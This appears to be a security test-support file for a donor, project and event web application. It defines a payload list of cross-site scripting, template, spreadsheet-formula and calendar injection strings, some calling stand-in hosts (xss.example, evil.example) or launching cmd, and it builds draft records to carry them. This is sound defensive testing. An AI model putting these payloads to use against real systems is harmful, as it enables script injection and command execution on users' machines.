"""The hostile text of tests/security: the payloads, the free-text fields they are written into, which
of those the API must refuse, and the records that carry them."""

from donors.models import Contribution, Donor
from events.models import Event
from kernel.publishing import Status
from organisations.models import Organisation
from projects.models import Project
from tests.factories import (
    ContributionFactory,
    DonorFactory,
    EventFactory,
    OrganisationFactory,
    ProjectFactory,
)

# The word every page search and list check looks for: records are titled "Zebra <payload>".
WORD = "Zebra"
LONG = ("<img src=x onerror=alert(1)>" * 400)[:10_000]
NUL = "a\x00<script>alert(1)</script>"

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="javascript:alert(1);">',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](jav&#x09;ascript:alert(1))",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    "![x](javascript:alert(1))",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<style>@import'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1));">x</div>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<object data="javascript:alert(1)"></object>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<details open ontoggle=alert(1)>",
    "{{7*7}}${7*7}{% debug %}",
    '=HYPERLINK("https://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:injected",
    "\u202egnp.exe <script>alert(1)</script>",
    NUL,
    LONG,
]
PAYLOAD_IDS = [f"{index:02d}" for index in range(len(PAYLOADS))]


# Free-text fields written through the API, per resource.
FIELDS = {
    "projects": ["title", "acronym", "summary", "description"],
    "events": ["title", "summary", "description", "report", "report_title", "venue", "city", "audience"],
    "donors": ["name", "short_name", "summary", "profile", "governing_body_note"],
    "organisations": ["name", "acronym", "description", "address"],
    "contributions": ["description"],
}
MODELS = {
    "projects": Project,
    "events": Event,
    "donors": Donor,
    "organisations": Organisation,
    "contributions": Contribution,
}
NAME_FIELDS = {"title", "name", "report_title"}


def value_for(field, payload):
    """Names start with the search word so lists and search find the record."""
    return f"{WORD} {payload}" if field in NAME_FIELDS else payload


def refusals(resource, payload):
    """The fields the API must refuse for this payload: NUL anywhere, length over the column's."""
    model = MODELS[resource]
    refused = set()
    for field in FIELDS[resource]:
        value = value_for(field, payload)
        limit = model._meta.get_field(field).max_length
        if "\x00" in value or (limit and len(value) > limit):
            refused.add(field)
    return refused


def make_records():
    """One draft of each kind, linked so every page shows the others."""
    donor = DonorFactory(
        slug="hostile-donor", featured=True, publication_status=Status.DRAFT, published_at=None
    )
    organisation = OrganisationFactory(
        slug="hostile-organisation", donor=donor, publication_status=Status.DRAFT, published_at=None
    )
    project = ProjectFactory(
        slug="hostile-project", donors=[donor], publication_status=Status.DRAFT, published_at=None
    )
    event = EventFactory(slug="hostile-event", publication_status=Status.DRAFT, published_at=None)
    event.donors.add(donor)
    event.projects.add(project)
    contribution = ContributionFactory(donor=donor, channel=organisation)
    return {
        "donors": donor.slug,
        "organisations": organisation.slug,
        "projects": project.slug,
        "events": event.slug,
        "contributions": contribution.slug,
    }
